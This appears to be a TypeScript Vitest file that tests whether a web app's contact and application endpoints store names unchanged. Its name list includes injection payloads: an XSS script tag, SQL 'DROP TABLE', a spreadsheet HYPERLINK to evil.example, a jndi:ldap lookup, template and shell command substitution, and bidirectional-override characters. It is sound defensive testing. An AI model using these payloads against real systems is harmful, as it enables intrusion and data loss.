import {afterAll, beforeAll, expect, test} from 'vitest'
import {openTestApi, readDetail, type TestApi} from './open-test-api.ts'
import {pdfOf} from './sample-file.ts'
import {applicationBody, message, postApplication, postJson} from './sample-form.ts'

let site: TestApi
beforeAll(async () => {
  site = await openTestApi()
})
afterAll(() => site.close())

const names = [
  'عائشہ خان',
  'محمد‌علی',
  "Sinéad O'Brien",
  'Nguyễn Thị Hồng',
  'Ångström (composed differently: Å)',
  '毛泽东',
  'ひらがな カタカナ',
  '홍길동',
  'Владимир',
  'Ελένη',
  'שָׁלוֹם',
  'अमिताभ',
  'ஸ்ரீ',
  'ไทย',
  '👩🏽‍🔧 Builder 🏗️',
  '𝒵oe 𐍈',
  'Zalgo z̷̧̛͇a̴͉̕l̷g̵o',
  '<script>alert(1)</script>',
  `"; DROP TABLE submission; --`,
  '=HYPERLINK("http://evil.example")',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers type
  '${jndi:ldap://x} {{7*7}} %00 %s \\0 `id` $(id)',
  'null',
  'undefined',
  '\u202eevil\u202c',
  '\ufeffmark',
]

test.each(names)('the name %j comes back byte for byte', async (name) => {
  const text = `${name}\n\t${name}`
  const json = await postJson(site.url, {...message, name, message: text})
  const form = await fetch(`${site.url}/api/contact`, {method: 'POST', body: new URLSearchParams({...message, name})})
  const file = {name: `${name.replaceAll(/[/\\"]/g, '')}.pdf`, bytes: pdfOf(100)}
  const upload = await postApplication(site.url, applicationBody({firstName: name}, file))
  const ids: string[] = []
  for (const answer of [json, form, upload]) {
    expect(answer.status).toBe(201)
    ids.push(((await answer.json()) as {id: string}).id)
  }
  const [first, second, third] = await Promise.all(ids.map((id) => readDetail(site, id)))
  // Blanks and marks around a text are trimmed, everything else stays.
  expect(first?.answers).toMatchObject({name: name.trim(), message: text.trim()})
  expect(second?.answers.name).toBe(name.trim())
  expect(third?.answers.firstName).toBe(name.trim())
  expect(third?.files[0]?.name).toBe(file.name.replaceAll(/[\u202a-\u202e]/g, '_'))
})
